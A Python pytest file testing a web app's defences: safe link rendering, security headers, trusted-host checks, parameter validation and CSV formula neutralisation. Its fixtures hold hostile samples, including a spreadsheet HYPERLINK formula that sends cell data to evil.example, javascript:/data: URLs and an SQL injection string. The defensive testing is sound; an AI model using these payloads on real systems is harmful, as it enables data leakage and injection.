"""The web layer against hostile data and hostile requests, on a real uvicorn server over a real SQLite file:
links from the data only when http(s), the security headers on every response, trusted hosts, bounded
parameters (422, never 500) and CSV cells that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest

from conftest import build_web_kb, serve_web
from pandawatch.model import Event
from pandawatch.store import open_store
from pandawatch.store.events import save_events

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_URLS = ["javascript:alert(document.domain)", " JavaScript:alert(1)", "data:text/html,<script>x</script>",
                "vbscript:msgbox(1)"]  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """The web knowledge base plus articles whose URLs are scripts and whose titles and outlets are formulas."""
    base = tmp_path_factory.mktemp("web-security")
    kb = build_web_kb(base / "kb.sqlite", base / "registry")
    with open_store(kb) as store:
        for number, url in enumerate(HOSTILE_URLS):
            article = f"hostile/{number}.txt"
            store.conn.execute(
                "INSERT INTO articles (id, url, outlet, title, published, text, canonical_id, raw_digest, text_digest,"
                " run_id, ingested_at) VALUES (?, ?, '@SUM(1+1)', ?, '2025-06-01', 'Japan asked China for pandas.',"
                " ?, ?, ?, 1, '2026-01-01T00:00:00Z')", (article, url, FORMULA_TITLE, article, article, article))
            event = Event.from_json({"article": article, "confidence": 0.9, "type": "LOAN_REQUEST",
                                     "status": "occurred", "date": "2025-06", "source": "JPN", "target": "CHN",
                                     "institution": FORMULA_TITLE, "evidence": "Japan asked China for pandas."})
            assert not save_events(store, article, [event]).skipped
    yield from serve_web(kb, base / "registry")


@pytest.fixture(scope="module")
def client(server):
    with httpx.Client(base_url=server, timeout=10) as session:
        yield session


def _hostile_event_ids(client) -> list[int]:
    items = client.get("/api/events", params={"limit": 1000}).json()["items"]
    return [item["id"] for item in items if item["article"].startswith("hostile/")]


def test_a_script_url_from_an_article_is_never_a_link(client):
    ids = _hostile_event_ids(client)
    assert len(ids) == len(HOSTILE_URLS)
    for event_id in ids:
        page = client.get(f"/event/{event_id}").text
        assert "original</a>" not in page  # the link is left out, the article id still shown
        lowered = page.lower()
        assert 'href="javascript:' not in lowered and 'href=" javascript:' not in lowered
        assert 'href="data:' not in lowered and 'href="vbscript:' not in lowered


def test_an_http_url_from_the_data_is_still_a_link(client):
    items = client.get("/api/events", params={"limit": 1000}).json()["items"]
    web_event = next(item for item in items if item["article"] == "web/hostile.txt")
    assert 'href="https://example.org/web/hostile.txt"' in client.get(f"/event/{web_event['id']}").text


@pytest.mark.parametrize("path", ["/", "/event/1", "/api/where", "/assets/pandawatch.css", "/no/such/page",
                                  "/api/events?offset=-1"])
def test_every_response_carries_the_security_headers(client, path):
    response = client.get(path)
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["x-frame-options"] == "DENY"


def test_pages_hold_no_inline_script_or_handler(client):
    for path in ["/", "/events", "/review", "/search?q=mu", "/country/JPN", "/pandas"]:
        page = client.get(path).text.lower()
        assert "<script>" not in page and "<script type" not in page, path  # every script is a file: src=...
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", page), path  # no handler attribute in any tag


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8765", "127.0.0.1.evil.example", ""])
def test_a_request_naming_an_untrusted_host_is_refused(server, host):
    response = httpx.get(f"{server}/api/where", headers={"Host": host})
    assert response.status_code == 400
    assert response.json()["source"] == "Host" and "trusted_hosts" in response.json()["hint"]


def test_loopback_names_are_trusted(server):
    port = server.rsplit(":", 1)[1]
    for host in [f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}"]:
        assert httpx.get(f"{server}/api/where", headers={"Host": host}).status_code == 200, host


@pytest.mark.parametrize("path", [
    "/api/search?q=panda%00x", "/search?q=%00", "/api/events?type=%00", "/api/articles/abc%00def",
    f"/api/events?offset={2**63}", f"/api/articles?offset={2**63}", "/events?offset=99999999999999999999",
    "/api/events/12345678901234567890", "/event/12345678901234567890", "/api/events/-1", "/api/events/0",
    "/api/events?limit=0", "/api/events?limit=100000", "/api/search?q=" + "a" * 300, "/api/search?q=",
    "/api/where?date=" + "9" * 5000, "/api/events?as_of=99999-99-99", "/api/timeline?since=%ff%fe",
])  # fmt: skip
def test_a_hostile_parameter_is_a_422_never_a_500(client, path):
    response = client.get(path, headers={"Accept": "application/json"})
    assert response.status_code == 422, (path, response.status_code, response.text[:200])
    assert response.json()["error"] == "InvalidInput" and response.json()["message"]


@pytest.mark.parametrize("query", ['"', "*", "NEAR(", "a OR", "-", "^", "panda AND (", "'; DROP TABLE events; --"])
def test_search_syntax_of_the_full_text_index_is_text_not_a_query(client, query):
    assert client.get("/api/search", params={"q": query}).status_code == 200


def test_csv_cells_cannot_run_as_formulas(client):
    body = client.get("/api/events", params={"format": "csv", "limit": 1000}).text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert sum(row["institution"] == "'" + FORMULA_TITLE for row in rows) == len(HOSTILE_URLS)


def test_csv_export_files_neutralise_formulas_and_keep_numbers(tmp_path):
    from pandawatch.export.csv import safe_cell, write_table

    path = tmp_path / "t.csv"
    write_table(path, ["a", "b", "c"], [(FORMULA_TITLE, -3, "+1"), ("\tx", 2.5, "plain"), ("-x", None, "@y")])
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1] == ["'" + FORMULA_TITLE, "-3", "'+1"] and rows[2] == ["'\tx", "2.5", "plain"]
    assert rows[3] == ["'-x", "", "'@y"] and safe_cell("\rcmd") == "'\rcmd"
